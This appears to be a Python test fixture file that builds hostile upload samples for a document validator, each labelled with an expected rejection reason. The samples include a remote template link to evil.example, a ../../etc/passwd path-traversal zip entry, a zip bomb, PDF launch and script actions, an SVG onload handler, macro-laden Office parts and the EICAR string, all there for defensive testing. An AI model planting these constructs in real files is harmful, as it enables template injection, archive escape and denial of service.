"""Files people bring, honest ones and others."""

import io
import zipfile

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 64
JPG = b"\xff\xd8\xff\xe0" + b"\0" * 64
PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
TYPES = '<?xml version="1.0"?><Types/>'


def package(parts: dict[str, str | bytes]) -> bytes:
    """Make an archive such as office programs write."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(**more: str | bytes) -> bytes:
    """Make a small Word file."""
    parts: dict[str, str | bytes] = {"[Content_Types].xml": TYPES, "word/document.xml": "<w/>"}
    return package(parts | {name.replace("__", "/"): body for name, body in more.items()})


def xlsx(extra: dict[str, str | bytes] | None = None) -> bytes:
    """Make a small Excel file."""
    return package({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<w/>"} | (extra or {}))


OFD = package({"OFD.xml": "<ofd/>"})
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TEMPLATE = (
    '<Relationships><Relationship Type="http://x/relationships/attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
HOSTILE = {
    "empty": ("a.pdf", b"", "empty"),
    "program": ("a.exe", b"MZ\x90", "type-not-taken"),
    "page": ("a.html", b"<script>", "type-not-taken"),
    "drawing with script": ("a.svg", b"<svg onload=x>", "type-not-taken"),
    "old word": ("a.doc", b"\xd0\xcf\x11\xe0", "type-not-taken"),
    "macro workbook by name": ("a.xlsm", xlsx(), "type-not-taken"),
    "no suffix": ("report", PDF, "type-not-taken"),
    "program called pdf": ("a.pdf", b"MZ\x90\0", "not-what-it-says"),
    "picture called word": ("a.docx", PNG, "not-what-it-says"),
    "excel called word": ("a.docx", xlsx(), "not-what-it-says"),
    "archive called excel": ("a.xlsx", package({"x.txt": "x"}), "not-what-it-says"),
    "binary called text": ("a.txt", b"abc\0def", "not-what-it-says"),
    "pdf cut short": ("a.pdf", b"%PDF-1.7\n1 0 obj", "damaged"),
    "pdf with script": ("a.pdf", PDF[:-6] + b"/JavaScript (x)\n%%EOF\n", "active-content"),
    "pdf that starts a program": ("a.pdf", PDF[:-6] + b"/Launch\n%%EOF\n", "active-content"),
    "pdf with password": ("a.pdf", PDF[:-6] + b"/Encrypt 5 0 R\n%%EOF\n", "encrypted"),
    "word cut short": ("a.docx", docx()[:-30], "damaged"),
    "word with macros": ("a.docx", docx(**{"word__vbaProject.bin": b"x"}), "macros"),
    "excel with old macros": ("a.xlsx", xlsx({"xl/macrosheets/s.xml": "<x/>"}), "macros"),
    "word that is macro enabled": (
        "a.docx",
        docx(**{"word__x.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
        "macros",
    ),
    "word with entities": ("a.docx", docx(**{"word__x.xml": "<!DOCTYPE x>"}), "doctype"),
    "word with template from afar": (
        "a.docx",
        docx(**{"word___rels__settings.xml.rels": TEMPLATE}),
        "external-content",
    ),
    "way out of the archive": ("a.xlsx", xlsx({"../../etc/passwd": "x"}), "damaged"),
    "bomb": ("a.xlsx", xlsx({"xl/bomb.xml": b"\0" * (30 << 20)}), "ratio"),
    "many parts": (
        "a.xlsx",
        xlsx({f"xl/{number}.bin": "" for number in range(2_100)}),
        "too-many-parts",
    ),
    "test virus": ("a.txt", EICAR, "malicious"),
}
